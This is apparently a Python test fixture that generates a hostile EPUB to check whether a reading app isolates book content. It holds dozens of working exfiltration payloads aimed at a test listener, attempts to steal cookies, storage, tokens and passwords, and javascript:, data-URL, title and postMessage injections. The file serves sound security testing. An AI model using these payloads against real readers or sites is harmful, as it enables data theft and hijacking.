"""A book that attacks the reader: each attempt has a name, and a sign by which a test sees whether it succeeded.

Attempts of markup send a request to the test's listener, at /leak/NAME. Attempts of scripts do the same, or write their outcome into an
attribute of the chapter's root element: data-try-NAME is "succeeded", or "failed" with the reason. data-ran-NAME says that a script ran at all.
"""

import json
import pathlib

import books

TITLE = "Hostile <script>document.documentElement.dataset.owned='title'</script> {{base}}"

# Elements that load something by themselves. LEAK/ is the address of the listener.
MARKUP = {
    "img": '<img src="LEAK/img" alt=""/>',
    "srcset": '<picture><source srcset="LEAK/srcset"/><img alt="" srcset="LEAK/srcset 1x"/></picture>',
    "style-url": '<p style="background: url(LEAK/style-url)">text</p>',
    "style-image": '<ul style="list-style-image: url(LEAK/style-image)"><li>text</li></ul>',
    "audio": '<audio src="LEAK/audio" preload="auto" controls="controls"></audio>',
    "video": '<video src="LEAK/video" preload="auto" controls="controls"></video>',
    "poster": '<video poster="LEAK/poster" controls="controls"></video>',
    "iframe": '<iframe src="LEAK/iframe"></iframe>',
    "object": '<object data="LEAK/object" type="text/html"></object>',
    "embed": '<embed src="LEAK/embed" type="text/html"/>',
    "input": '<input type="image" src="LEAK/input" alt=""/>',
    "svg-image": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="LEAK/svg-image" width="9" height="9"/></svg>',
    "srcdoc": '<iframe srcdoc="&lt;img src=&quot;LEAK/srcdoc&quot;&gt;"></iframe>',
}
HEAD = {
    "stylesheet": '<link rel="stylesheet" href="LEAK/stylesheet"/>',
    "import": '<style>@import url("LEAK/import");</style>',
    "font": '<style>@font-face { font-family: Leak; src: url("LEAK/font"); } body { font-family: Leak, serif }</style>',
    "prefetch": '<link rel="prefetch" href="LEAK/prefetch"/>',
    "preload": '<link rel="preload" as="image" href="LEAK/preload"/>',
    "icon": '<link rel="icon" href="LEAK/icon"/>',
    "script": '<script src="LEAK/script"></script>',
    "module": '<script type="module" src="LEAK/module"></script>',
}
# Icons belong to the document of a tab, not to one in a frame.
ONLY_IN_A_TAB = {"icon"}

# Bodies of async functions. True: the attempt succeeded. The listener's address is LEAK, the other book's OTHER; framed() gives up
# in a chapter that is opened by itself, which is its own parent.
SCRIPTS = {
    "other-book": "return (await (await fetch(OTHER)).text()).includes(MARK)",
    "other-manifest": "return (await (await fetch(OTHER + 'manifest.json')).text()).includes(MARK)",
    "other-frame": "const f = element('iframe', { src: OTHER }); await loaded(f); return f.contentDocument.body.textContent.includes(MARK)",
    "other-picture": "const i = element('img', { src: OTHER + 'EPUB/cover.png' }); await loaded(i); return i.naturalWidth > 0",
    "page-storage": "framed(); return parent.localStorage.getItem('mark') === 'MARKED'",
    "own-storage": "localStorage.setItem('mine', '1'); return localStorage.getItem('mine') === '1'",
    "database": "return await new Promise((yes, no) => { const o = indexedDB.open('mine'); o.onsuccess = () => yes(true); o.onerror = no })",
    "caches": "await caches.open('mine'); return true",
    "cookie": "document.cookie = 'mine=1'; return document.cookie.includes('mine')",
    "page-cookie": "framed(); return parent.document.cookie.includes('mark')",
    "parent-dom": "framed(); return parent.document.body.outerHTML.length > 0",
    "parent-change": "framed(); parent.document.documentElement.dataset.owned = 'script'; return true",
    "top-address": "framed(); return top.location.href.length > 0",
    "token": "return [document.referrer, top.location.href, parent.document.cookie, JSON.stringify(parent.localStorage)].join().includes(TOKEN)",
    "login": "const here = location.href.replace(/(EPUB\\/)?[^/]*$/, ''); for (const n of ['', 'manifest.json', '~readium/positions'])"
    " { if ((await (await fetch(here + n)).text()).includes(PASSWORD)) return true } return false",
    "fetch": "await fetch(LEAK + 'fetch', { mode: 'no-cors' }); return true",
    "request": "const r = new XMLHttpRequest(); r.open('GET', LEAK + 'request'); r.send(); await loaded(r); return r.status === 200",
    "beacon": "if (!navigator.sendBeacon(LEAK + 'beacon', 'x')) return false; return 'LISTENER'",
    "socket": "const s = new WebSocket(LEAK.replace('http', 'ws') + 'socket'); await new Promise((yes) => { s.onerror = yes; s.onopen = yes }); return 'LISTENER'",
    "events": "const s = new EventSource(LEAK + 'events'); await new Promise((yes) => { s.onerror = yes; s.onopen = yes }); s.close(); return 'LISTENER'",
    "script-import": "await import(LEAK + 'script-import'); return true",
    "worker": "const w = new Worker(URL.createObjectURL(new Blob([`fetch('${LEAK}worker', {mode: 'no-cors'}).then(() => postMessage(1))`])));"
    " await new Promise((yes, no) => { w.onmessage = yes; w.onerror = no }); return true",
    "service-worker": "await navigator.serviceWorker.register('worker.js'); return true",
    "script-image": "const i = element('img', { src: LEAK + 'script-image' }); await loaded(i); return 'LISTENER'",
    "script-prefetch": "const l = element('link', { rel: 'prefetch', href: LEAK + 'script-prefetch' }); await loaded(l); return 'LISTENER'",
    "script-font": "const f = new FontFace('Leak2', `url(${LEAK}script-font)`); await f.load().catch(() => 0); return 'LISTENER'",
    "script-frame": "const f = element('iframe', { src: LEAK + 'script-frame' }); await loaded(f); return 'LISTENER'",
    "nested-frame": "const f = element('iframe', { srcdoc: `<script>fetch('${LEAK}nested-frame', {mode: 'no-cors'})</` + 'script>' }); await loaded(f); return 'LISTENER'",
    "form": "const f = element('form', { action: LEAK + 'form', method: 'post', target: 'nowhere' }); element('iframe', { name: 'nowhere' }); f.submit(); return 'LISTENER'",
    "window": "const w = window.open(LEAK + 'window'); if (!w) return false; return 'LISTENER'",
    "top-form": "const f = element('form', { action: LEAK + 'top-form', target: '_blank' }); f.submit(); return 'LISTENER'",
    "link": "element('a', { href: LEAK + 'link', target: '_blank' }).click(); return 'LISTENER'",
    "ping": "element('a', { href: '#here', ping: LEAK + 'ping' }).click(); return 'LISTENER'",
    "webrtc": "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + UDP }] }); c.createDataChannel('x');"
    " await c.setLocalDescription(await c.createOffer()); await new Promise((yes) => { c.onicegatheringstatechange = () => { if (c.iceGatheringState === 'complete') yes() } }); return 'LISTENER'",
}
# Messages to the page, as our own script would send them. The page must not do what they ask.
MESSAGES = [
    {"type": "link", "href": "javascript:document.documentElement.dataset.owned='link'"},
    {"type": "link", "href": "data:text/html,<script>top.document.documentElement.dataset.owned='data'</script>"},
    {"type": "link", "href": "LEAK/message-link"},
    {"type": "link", "href": "//LISTENER_HOST/leak/message-relative"},
    {"type": "link", "href": "../../../../leak"},
    {"type": "moved", "progression": "x", "page": {}, "pages": -1, "visibleText": "<img src='LEAK/message-text'>"},
    {"type": "ready", "title": "<img src='LEAK/message-title'>", "href": "LEAK/message-ready"},
    {"type": "key", "key": {}}, {"type": "turned", "edge": "nowhere"}, {"type": "__proto__"}, {"carrel": 2}, None, "x", 7,
]
# Chapters that lead their frame, or the tab, elsewhere. Each has a file to itself.
LEAVING = {
    "refresh": ('<meta http-equiv="refresh" content="0; url=LEAK/refresh"/>', ""),
    "leave": ("", 'location.href = LEAK + "leave"'),
    "replace": ("", 'document.addEventListener("DOMContentLoaded", () => location.replace(LEAK + "replace"))'),
    "top": ("", 'top.location.href = LEAK + "top"'),
    "parent": ("", 'parent.location.replace(LEAK + "parent")'),
    "self-form": ("", 'document.addEventListener("DOMContentLoaded", () => { const f = element("form", { action: LEAK + "self-form" }); f.submit() })'),
    "top-form-leave": ("", 'document.addEventListener("DOMContentLoaded", () => { const f = element("form", { action: LEAK + "top-form-leave", target: "_top" }); f.submit() })'),
}
INLINE = "document.documentElement.setAttribute('data-ran-inline', '1')"

HELPERS = """
const element = (name, attributes) => {
  const made = document.createElementNS('http://www.w3.org/1999/xhtml', name)
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
  return (document.body || document.documentElement).appendChild(made)
}
const framed = () => { if (parent === window) throw new Error('no parent') }
const loaded = (made) => new Promise((yes) => { made.onload = yes; made.onerror = yes })
"""


def attack(values: dict[str, object]) -> str:
    """The script that makes all attempts and then sets data-done."""
    constants = "".join(f"const {name} = {json.dumps(value)}\n" for name, value in values.items())
    attempts = "".join(f"  {json.dumps(name)}: async () => {{ {body} }},\n" for name, body in SCRIPTS.items())
    return f"""'use strict'
{constants}{HELPERS}
const root = document.documentElement
root.setAttribute('data-ran-file', '1')
const attempts = {{
{attempts}}}
const limit = () => new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 2000))
async function make(name, attempt) {{
  let outcome
  try {{
    const result = await Promise.race([attempt(), limit()])
    outcome = result === 'LISTENER' ? 'see the listener' : result ? 'succeeded' : 'failed'
  }} catch (error) {{ outcome = 'failed: ' + error }}
  root.setAttribute('data-try-' + name, outcome)
}}
addEventListener('DOMContentLoaded', async () => {{
  for (const message of {json.dumps(MESSAGES).replace("LEAK/", str(values["LEAK"])).replace("LISTENER_HOST", str(values["LEAK"]).split("/")[2])})
    parent.postMessage(message && typeof message === 'object' ? {{ carrel: 1, ...message }} : message, '*')
  await Promise.all(Object.entries(attempts).map(([name, attempt]) => make(name, attempt)))
  root.setAttribute('data-done', '1')
}})
"""


def files(listener: str, udp: int, other: str, token: str, password: str) -> tuple[list[tuple[str, str, str, str]], dict[str, tuple[str, str]]]:
    """The chapters and the other files of the book, as `books.epub` takes them."""
    leak = f"{listener}/leak/"
    values = {"LEAK": leak, "UDP": udp, "OTHER": other, "MARK": books.OTHER_MARK, "TOKEN": token, "PASSWORD": password}

    def filled(text: str) -> str:
        return text.replace("LEAK/", leak).replace("OTHER/", other)

    handlers = (
        "<img src=\"nothing.png\" alt=\"\" onerror=\"document.documentElement.setAttribute('data-ran-handler', '1')\"/>"
        "<iframe src=\"javascript:parent.document.documentElement.setAttribute('data-ran-address', '1')\"></iframe>"
        f"<script>{INLINE}</script>")
    preconnect = '<link rel="preconnect" href="LEAK/preconnect"/><link rel="dns-prefetch" href="LEAK/dns"/>'
    markup = "".join(MARKUP.values()) + '<img id="other-cover" src="OTHER/EPUB/cover.png" alt=""/><iframe id="other-page" src="OTHER/"></iframe>'
    links = '<p><a id="away" href="LEAK/away">away</a></p><p><a id="away-top" target="_top" href="LEAK/away-top">away</a></p>'
    links += '<form action="LEAK/button" target="_top"><button id="button">send</button></form>'
    svg = filled(
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" onload="document.documentElement.setAttribute(\'data-ran-svg-handler\', \'1\')">'
        "<rect width=\"100\" height=\"100\" fill=\"#dde\"/><image href=\"LEAK/svg-picture\" width=\"9\" height=\"9\"/>"
        "<style>@import url(LEAK/svg-import); rect { fill: url(LEAK/svg-style) }</style>"
        "<foreignObject width=\"50\" height=\"50\"><img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"LEAK/svg-foreign\"/></foreignObject>"
        "<script>document.documentElement.setAttribute('data-ran-svg', '1')</script></svg>")
    chapters = [
        ("start.xhtml", "Start", "", books.xhtml("Start", f'<h1 id="start-text">Start</h1>{filled(links)}')),
        ("markup.xhtml", "Markup", "", books.xhtml("Markup", f"<p>Markup</p>{filled(markup)}{handlers}", filled("".join(HEAD.values())))),
        ("based.xhtml", "Base", "", books.xhtml("Base", '<p>Base</p><img src="based.png" alt=""/>', filled('<base href="LEAK/"/>'))),
        ("script.xhtml", "Script", "", books.xhtml("Script", f"<p>Script</p>{handlers}", '<script src="attack.js"></script>')),
        ("connect.xhtml", "Connect", "", books.xhtml("Connect", "<p>Connect</p>", filled(preconnect))),
        ("picture.svg", "Drawing", "", svg),
    ]
    constants = f"const LEAK = {json.dumps(leak)};{HELPERS}"
    for name, (head, script) in LEAVING.items():
        head = filled(head) + (f"<script>//<![CDATA[\n{constants}{script}\n//]]></script>" if script else "")
        chapters.append((f"{name}.xhtml", f"Leaving by {name}", "", books.xhtml(f"Leaving by {name}", "<p>Leaving</p>", head)))
    return chapters, {"attack.js": ("text/javascript", attack(values)), "worker.js": ("text/javascript", "self.onfetch = () => {}")}


SVG_LEAKS = ["svg-picture", "svg-foreign", "svg-import"]


def make(path: pathlib.Path, listener: str, udp: int, other: str, token: str, password: str) -> pathlib.Path:
    """Writes the book. `listener` is the origin of the test's listener, `other` the address of another book, with a slash at its end."""
    chapters, further = files(listener, udp, other, token, password)
    contents = "".join(f'<li><a href="{name}">{title}</a></li>' for name, title, *_ in chapters)
    contents += "<li><a href=\"javascript:document.documentElement.dataset.owned='contents'\">Script in the contents</a></li>"
    contents += f'<li><a href="{listener}/leak/contents">Elsewhere</a></li>'
    return books.epub(path, TITLE, chapters, further, contents)


def unpack(folder: pathlib.Path, listener: str, udp: int, other: str, token: str, password: str) -> None:
    """Writes the chapters as files, for a page that protects nobody."""
    (folder / "EPUB").mkdir(parents=True)
    chapters, further = files(listener, udp, other, token, password)
    for name, _, _, content in chapters:
        (folder / "EPUB" / name).write_text(content)
    for name, (_, content) in further.items():
        (folder / "EPUB" / name).write_text(content)
